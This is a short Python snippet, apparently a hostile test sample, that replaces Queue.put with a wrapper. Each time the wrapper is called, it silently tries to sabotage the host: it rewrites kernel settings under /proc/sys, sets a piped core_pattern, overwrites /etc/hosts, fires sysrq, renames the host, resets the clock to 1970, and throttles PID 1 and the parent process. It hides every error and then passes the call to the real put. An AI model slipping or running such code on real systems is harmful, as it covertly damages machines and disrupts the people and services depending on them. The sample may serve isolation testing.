

# Each put turns every knob of the host that is in reach.

honest_put = Queue.put


def turn(knob, *args):
    try:
        knob(*args)
    except Exception:
        pass


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def put(self, *args, **kwargs):
    import resource
    import socket
    import time

    for name, text in (
        ("kernel/hostname", "conquered"),
        ("kernel/pid_max", "301"),
        ("kernel/core_pattern", "|/bin/conquered"),
        ("vm/overcommit_memory", "2"),
        ("fs/file-max", "99"),
        ("fs/pipe-max-size", "4096"),
    ):
        turn(write, "/proc/sys/" + name, text)
    turn(write, "/etc/hosts", "127.0.0.1 conquered\n")
    turn(write, "/sys/kernel/mm/transparent_hugepage/enabled", "never")
    turn(write, "/proc/sysrq-trigger", "s")
    turn(socket.sethostname, "conquered")
    turn(time.clock_settime, time.CLOCK_REALTIME, 86400.0)
    for pid in (1, os.getppid()):
        turn(os.setpriority, os.PRIO_PROCESS, pid, 19)
        turn(resource.prlimit, pid, resource.RLIMIT_NOFILE, (3, 3))
    return honest_put(self, *args, **kwargs)


Queue.put = put
